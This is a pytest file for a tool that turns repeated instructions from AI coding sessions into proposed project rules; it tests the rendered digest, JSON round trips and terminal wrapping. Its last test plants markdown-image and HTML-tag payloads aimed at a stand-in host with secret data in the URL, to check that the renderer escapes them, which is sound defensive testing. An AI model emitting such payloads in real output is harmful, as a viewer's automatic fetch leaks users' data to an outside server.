"""The digest: marker, what was read, the evidence per item, the empty cases, JSON round trip."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from learn.records.proposal import Funnel, Proposal, Quote, RunResult, RunUsage, Verdict
from learn.report.digest import (
    LEARN_DIGEST_MARKER,
    flatten,
    render_digest_json,
    render_digest_markdown,
)

REPO = Path(__file__).resolve().parents[1]


def sample_result() -> RunResult:
    """A small run with one of each kind, a restated directive and a declined item."""
    uv = Proposal(
        kind="directive", label="use-uv-not-pip",
        text="use uv,\n   not pip — we never call pip directly",
        sessions=3, count=4, last_seen="2026-11-20T10:00:00Z",
        quotes=(Quote("s1", "use uv,\n   not pip — we never call pip directly", "2026-11-02T09:00:00Z"),
                Quote("s2", "again: uv not pip", "2026-11-10T09:00:00Z"),
                Quote("s2", "UV please", "2026-11-10T11:00:00Z"),
                Quote("s3", "uv, not pip!", "2026-11-20T10:00:00Z")),
        verdict=Verdict(True, "Use uv for every Python install and run; never pip.", "tooling",
                        "user", 0.9, rationale="stated in three sessions"),
    )
    tests = Proposal(
        kind="directive", label="run-tests-before-commit",
        text="run the tests before you commit", sessions=2, count=2,
        last_seen="2026-11-18T08:00:00Z", status="restated",
        existing_rule="- Run tests before committing.", existing_rule_file="/p/CLAUDE.md",
        quotes=(Quote("s4", "run the tests before you commit", "2026-11-05T08:00:00Z"),
                Quote("s5", "you didn't run the tests again", "2026-11-18T08:00:00Z")),
        verdict=Verdict(True, "Run `pytest -q` and see it pass before every commit.", "workflow",
                        "project", 0.8),
    )
    fix = Proposal(
        kind="fix", label="pytest-needs-venv", text="pytest failed until the venv one was used",
        sessions=2, count=2, last_seen="2026-11-15T08:00:00Z", command="pytest -q",
        error_excerpt="ModuleNotFoundError: No module named 'learn'",
        intervening_commands=("source .venv/bin/activate",), edited_files=("Makefile",),
        quotes=(Quote("s6", "pytest failed until the venv one was used", "2026-11-12T08:00:00Z"),
                Quote("s7", "use .venv/bin/pytest", "2026-11-15T08:00:00Z")),
        verdict=Verdict(True, "Run tests with `.venv/bin/pytest`.", "tooling", "project", 0.7),
    )
    req = Proposal(
        kind="request", label="release-notes", text="write the release notes", sessions=3,
        count=3, last_seen="2026-11-19T08:00:00Z",
        quotes=(Quote("s1", "write the release notes", "2026-11-03T08:00:00Z"),
                Quote("s3", "release notes please", "2026-11-19T08:00:00Z")),
        verdict=Verdict(False, "Write release notes.", "task", "project", 0.3,
                        rationale="a task, not a rule"),
    )
    return RunResult(
        proposals=(uv, tests, fix, req),
        funnel=Funnel(candidates=40, points=22, over_threshold=6, shown=4, held_back=1, cut=1,
                      below_threshold=16),
        usage=RunUsage(sessions_seen=21, sessions_mined=12, sessions_cached=8, sessions_failed=1,
                       model_calls=15, input_tokens=120_000, output_tokens=4_000, cost_usd=0.42),
        window_start="2026-11-01T00:00:00Z", window_end="2026-11-28T00:00:00Z",
        projects=("/home/me/proj",), failures=("s9: model call failed: overloaded",),
    )


def test_digest_opens_with_marker_and_says_what_was_read() -> None:
    md = render_digest_markdown(sample_result())
    first = md.splitlines()[0]
    assert first.startswith(LEARN_DIGEST_MARKER)
    assert "21 sessions" in first and "2026-11-01 to 2026-11-28" in first
    assert "Read by the model this run: 12; reused from cache: 8; failed: 1" in md
    assert "missing from the counts" in md
    assert "40 verified occurrences in 22 groups" in md
    assert "1 held back" in md and "1 cut" in md


def test_items_carry_flattened_quote_counts_rule_and_restated_rule() -> None:
    md = render_digest_markdown(sample_result())
    assert '"use uv, not pip — we never call pip directly"' in md  # flattened, verbatim
    assert "said in 3 of your last 21 sessions (4 times), last on 2026-11-20" in md
    assert "proposed rule (user scope, tooling, confidence 0.90): Use uv for every" in md
    assert 'already written in `/p/CLAUDE.md`: "- Run tests before committing."' in md
    assert "rewrite it rather than adding another" in md
    assert "key `directive:use-uv-not-pip`" in md
    # The fix shows its command, error and what happened in between.
    assert "- `pytest -q` —" in md and "No module named 'learn'" in md
    assert "`source .venv/bin/activate`" in md and "`Makefile`" in md


def test_sections_order_and_declined_items_kept_apart() -> None:
    md = render_digest_markdown(sample_result())
    d = md.index("## Directives you keep repeating")
    f = md.index("## Failures you keep resolving")
    n = md.index("## Repeated, but judged not worth a rule")
    w = md.index("## What to do")
    assert d < f < n < w
    # The declined request is not offered as a proposal section of its own.
    assert "## Work you keep asking for by name" not in md
    assert "a task, not a rule" in md[n:w]
    assert "learn apply" in md[w:] and "rewrite" in md[w:].lower()
    assert "s9: model call failed" in md


def test_empty_run_says_why_with_funnel() -> None:
    r = RunResult(proposals=(), funnel=Funnel(candidates=5, points=5, below_threshold=5),
                  usage=RunUsage(sessions_seen=10, sessions_mined=10))
    md = render_digest_markdown(r)
    assert md.startswith(LEARN_DIGEST_MARKER)
    assert "Nothing was repeated often enough" in md
    assert "5 verified occurrences in 5 groups" in md
    assert "## What to do" not in md


def test_empty_run_nothing_new_since_last_time() -> None:
    r = RunResult(proposals=(), funnel=Funnel(candidates=9, points=3, over_threshold=2,
                                              held_back=2),
                  usage=RunUsage(sessions_seen=4, sessions_cached=4))
    md = render_digest_markdown(r)
    assert "Nothing new since last time: 2 items already shown" in md


def test_json_is_run_result_to_json_and_round_trips() -> None:
    r = sample_result()
    data = json.loads(render_digest_json(r))
    assert data == r.to_json()
    back = RunResult.from_json(data)
    assert back.to_json() == r.to_json()
    assert back.proposals[0].verdict is not None and back.proposals[0].verdict.scope == "user"
    # A stored run re-renders with the same evidence and rules as the live one (to_json
    # does not carry the projects, the rule's file or the in-between commands).
    live = render_digest_markdown(dataclasses.replace(r, projects=())).splitlines()
    again = render_digest_markdown(back).splitlines()
    for needle in ("said in", "proposed rule", "also:", "already written", "grouped as"):
        assert [x for x in again if needle in x] == \
            [x.replace(" in `/p/CLAUDE.md`", "") for x in live if needle in x]


def test_from_json_tolerates_missing_and_unknown_values() -> None:
    r = RunResult.from_json({"proposals": [{"kind": "weird", "label": "x", "verdict": {
        "scope": "galaxy"}}, "not a dict"]})
    assert len(r.proposals) == 1
    p = r.proposals[0]
    assert p.kind == "directive" and p.verdict is not None and p.verdict.scope == "project"
    assert r.funnel.shown == 0 and r.usage.sessions_seen == 0


def test_flatten_cuts_with_ellipsis() -> None:
    assert flatten("a\n\n b\tc") == "a b c"
    assert flatten("x" * 50, 10) == "x" * 9 + "…"


def test_session_view_recognises_a_rendered_digest() -> None:
    # The marker is the only thing that keeps a pasted digest from being mined as
    # something the user said; both sides must agree on it.
    from learn.transcripts.view import exclusions

    assert exclusions.LEARN_DIGEST_MARKER == LEARN_DIGEST_MARKER
    assert exclusions.is_learn_digest(render_digest_markdown(sample_result()))
    empty = RunResult(proposals=(), funnel=Funnel(), usage=RunUsage())
    assert exclusions.is_learn_digest(render_digest_markdown(empty))


def test_failed_stages_and_verification_drops_are_said_in_the_digest_and_json() -> None:
    r = dataclasses.replace(
        sample_result(), failed_stages=("mine", "judge"),
        verification={"kept": 12, "paraphrase": 2, "too_short": 1, "fix_command": 0},
    )
    md = render_digest_markdown(r)
    assert "Failed after retries: stages mine, judge" in md
    assert "Verification kept 12 quotes and dropped 3: 2 not what was typed, 1 too short." in md
    data = json.loads(render_digest_json(r))
    assert data["failed_stages"] == ["mine", "judge"]
    assert data["verification"] == {"kept": 12, "paraphrase": 2, "too_short": 1, "fix_command": 0}
    assert RunResult.from_json(data).to_json() == data
    # A clean run says neither.
    clean = render_digest_markdown(sample_result())
    assert "Failed after retries" not in clean and "Verification kept" not in clean


def test_pending_proposals_of_earlier_runs_are_listed_not_lost() -> None:
    pending = [{"key": f"directive:rule-{i}", "rule": f"Rule number {i}."} for i in range(12)]
    r = dataclasses.replace(sample_result(), proposals=(),
                            funnel=Funnel(candidates=9, points=3, over_threshold=2, held_back=2),
                            extra={"pending": pending})
    md = render_digest_markdown(r)
    assert "No new proposals this run; 12 proposals from earlier runs are still pending" in md
    assert "Nothing new since last time" not in md
    assert "## Still pending (12, from earlier runs)" in md
    assert "- `directive:rule-0` — Rule number 0." in md and "and 2 more (`learn digest`)" in md
    assert "learn decline KEY" in md
    assert json.loads(render_digest_json(r))["pending"] == pending
    # Held back with nothing pending: the old sentence, pointing at every state.
    quiet = dataclasses.replace(r, extra={})
    assert "Nothing new since last time: 2 items" in render_digest_markdown(quiet)


def test_a_project_rule_says_which_project_it_belongs_to(tmp_path: Path) -> None:
    web, api = tmp_path / "web", tmp_path / "api"
    r = sample_result()
    fix = next(p for p in r.proposals if p.kind == "fix")
    one = dataclasses.replace(fix, quotes=tuple(dataclasses.replace(q, project=str(web / "src"))
                                                for q in fix.quotes))
    (web / ".git").mkdir(parents=True)
    md = render_digest_markdown(dataclasses.replace(r, proposals=(one,)))
    assert f"  - project: `{web}`" in md
    data = json.loads(render_digest_json(dataclasses.replace(r, proposals=(one,))))
    assert data["proposals"][0]["project"] == str(web)
    two = dataclasses.replace(one, quotes=(one.quotes[0],
                                           dataclasses.replace(one.quotes[1], project=str(api))))
    md = render_digest_markdown(dataclasses.replace(r, proposals=(two,)))
    assert "said in 2 projects:" in md and "`learn apply` asks which" in md
    data = json.loads(render_digest_json(dataclasses.replace(r, proposals=(two,))))
    assert data["proposals"][0]["project"] is None
    assert sorted(data["proposals"][0]["projects"]) == sorted([str(web), str(api)])


def test_printed_to_an_80_column_terminal_every_line_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    """19 of 38 lines of a run's digest overflowed 80 columns."""
    from learn.report.wrap import for_terminal

    monkeypatch.setenv("COLUMNS", "80")
    md = render_digest_markdown(sample_result())
    assert max(len(x) for x in md.splitlines()) > 80  # whole lines for /learn and pipes
    shown = for_terminal(md, isatty=True)
    assert max(len(x) for x in shown.splitlines()) <= 80
    # Only line breaks changed: the same words in the same order.
    assert shown.split() == md.split()
    assert for_terminal(md, isatty=False) == md


def test_the_whole_guide_is_shown_on_a_first_run_only(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from evals.corpora import demo

    demo.build(tmp_path / "corpus")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "LEARN_"))}
    env.update(HOME=str(tmp_path / "corpus" / "home"), LEARN_DATA_DIR=str(tmp_path / "data"),
               LEARN_CACHE_DIR=str(tmp_path / "cache"), PYTHONPATH=str(REPO))

    def run() -> str:
        done = subprocess.run([sys.executable, "-m", "learn", "run", "--offline", "--all-projects",
                               "--since", "2026-01-01", "--all"], env=env, capture_output=True,
                              text=True, timeout=300, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        return done.stdout

    first, second = run(), run()
    assert "**Is it durable?**" in first
    assert "**Is it durable?**" not in second and "## What to do" in second
    # The whole guide is reached where learn is installed (docs/ is not in the wheel).
    assert "`learn demo` prints it again" in second and "docs/" not in second
    assert len(second.split("## What to do")[1].splitlines()) < 10


def test_no_quote_or_model_text_makes_a_markdown_viewer_fetch() -> None:
    # A quote is what the person typed, a summary what a model wrote from it: shown in a
    # Markdown preview, an image or an <img> in either was a request leaving the machine.
    from markdown_it import MarkdownIt

    pixel = "https://pixel.example/t.png?d=secret-words"
    base = sample_result()
    uv = dataclasses.replace(
        base.proposals[0], label="use-uv ![l](" + pixel + ")",
        text=f"use uv ![x]({pixel}) and <img src={pixel}>",
        quotes=(Quote("s1", f"use uv ![x]({pixel})", "2026-11-02T09:00:00Z"),
                Quote("s2", f"uv <IMG SRC='{pixel}'/> again", "2026-11-10T09:00:00Z")),
        verdict=Verdict(True, f"Use uv. ![ok][r]\n\n[r]: {pixel}", "tooling", "user", 0.9,
                        rationale=f"<video src={pixel}></video> <iframe src={pixel}>"),
    )
    result = dataclasses.replace(base, proposals=(uv, *base.proposals[1:]),
                                 failures=(f"s9: <img src={pixel}>",))
    md = render_digest_markdown(result)
    html = MarkdownIt("commonmark").render(md)
    assert pixel in md  # what was said is kept, as typed
    for tag in ("<img", "<video", "<iframe", 'src="'):
        assert tag not in html.lower()  # escaped, they are text: &lt;img
    # Links stay links: following one is the person's own click.
    linked = dataclasses.replace(result, proposals=(dataclasses.replace(
        uv, text="see [the docs](https://docs.example/uv)"), *base.proposals[1:]))
    assert 'href="https://docs.example/uv"' in MarkdownIt("commonmark").render(
        render_digest_markdown(linked))
